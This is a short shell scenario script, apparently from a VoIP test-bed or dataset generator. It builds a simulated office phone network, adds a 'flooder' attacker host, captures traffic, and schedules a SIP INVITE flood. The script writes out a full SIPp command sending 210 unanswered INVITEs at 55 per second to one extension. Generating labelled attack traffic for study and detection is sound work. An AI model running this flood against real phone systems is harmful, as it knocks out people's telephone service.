# SIPp sends 55 INVITEs a second for one phone, and no ACK.
relocate example.net 5060 192.168.207 198.18.9 198.19.9
EXTENSIONS=(3301 3302 3303 3304 3305 3306)
EXISTING='^33[0-1][0-9]$'
WEAK=none
open_office
add_attacker flooder 198.19.9.50
start_office_capture
keep_alive 8
office_day 209 55
at 22 attack A1 invite_flood flooder 5060 "SIPp sends 210 INVITEs, 55 a second, for 3303, whose phone rings and then is busy, and no ACK." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$parts/sipp/flood-invite.xml" -nostdin -default_behaviors none \
    -i 198.19.9.50 -mi 198.19.9.50 -p 5060 -s 3303 -r 55 -m 210 192.168.207.1:5060
play
wait_for A1
close_office
